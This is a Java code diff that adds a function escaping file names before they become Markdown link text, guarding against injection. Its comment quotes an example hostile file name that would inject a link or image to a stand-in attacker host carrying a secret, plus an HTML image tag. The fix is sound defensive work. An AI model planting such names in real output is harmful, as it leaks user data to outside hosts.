@@ -16,9 +16,30 @@ final class Markdown {
             if (md.length() > 0) {
                 md.append('\n');
             }
-            String label = f.name().replace("]", "\\]").replace("[", "\\[");
+            String label = label(f.name());
             md.append(f.isImage() ? "![" + label + "](" + f.url() + ")" : "[" + label + "](" + f.url() + ")");
         }
         return md.length() == 0 ? null : md.toString();
+    }
+
+    /**
+     * A file name as link text that stays text. The code that ran chose the name, so a name such as
+     * {@code x\](https://attacker/?q=secret) ![y} must not close the label and add a link or image of its
+     * own, nor may {@code <img src=...>} become HTML nor a backtick open a code span that swallows what
+     * follows: brackets, angle brackets, backticks and the backslash itself are escaped, and line breaks and
+     * other control characters become spaces.
+     */
+    static String label(String name) {
+        StringBuilder out = new StringBuilder(name.length() + 8);
+        name.codePoints().forEach(c -> {
+            if (Character.isISOControl(c)) {
+                out.append(' ');
+            } else if ("\\[]<>`".indexOf(c) >= 0) {
+                out.append('\\').append((char) c);
+            } else {
+                out.appendCodePoint(c);
+            }
+        });
+        return out.toString();
     }
 }
